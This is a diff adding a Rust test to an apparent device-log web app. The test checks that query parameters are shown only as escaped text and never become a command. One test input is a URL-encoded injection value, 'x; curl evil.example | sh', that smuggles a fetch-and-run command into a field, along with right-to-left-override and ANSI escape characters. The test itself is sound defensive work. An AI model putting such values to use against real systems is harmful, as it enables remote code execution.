@@ -231,6 +231,28 @@ async fn an_offline_device_is_said_at_once_with_since_and_an_empty_log_teaches()
 }
 
 #[tokio::test]
+async fn what_stands_in_the_address_becomes_no_command_and_acts_nowhere() {
+    let app = app(fabricated::busy(fixed_now()));
+    let page = content(&app, &format!("{LOGS}?init=migrate&q=rates")).await;
+    assert!(page.contains("--init migrate --lines"), "{page}");
+    let bad = format!("{LOGS}?init=x%3B%20curl%20evil.example%20%7C%20sh%E2%80%AE&q=a%E2%80%AEb%1B%5B31mc");
+    let page = text(get(&app, &bad).await).await;
+    assert!(!page.contains("--init"), "{page}");
+    assert!(
+        page.contains("match “a⟨U+202E⟩bc”") && page.contains("value=\"a⟨U+202E⟩bc\""),
+        "{page}"
+    );
+    assert!(
+        page.contains("init: x; curl"),
+        "it is shown as what was asked for"
+    );
+    assert!(
+        !page.chars().any(|c| c == '\u{202e}' || c == '\u{1b}'),
+        "nothing acts"
+    );
+}
+
+#[tokio::test]
 async fn a_log_that_the_journal_lost_is_told_from_one_that_never_was() {
     let mut state = fabricated::busy(fixed_now());
     for (name, lines) in [
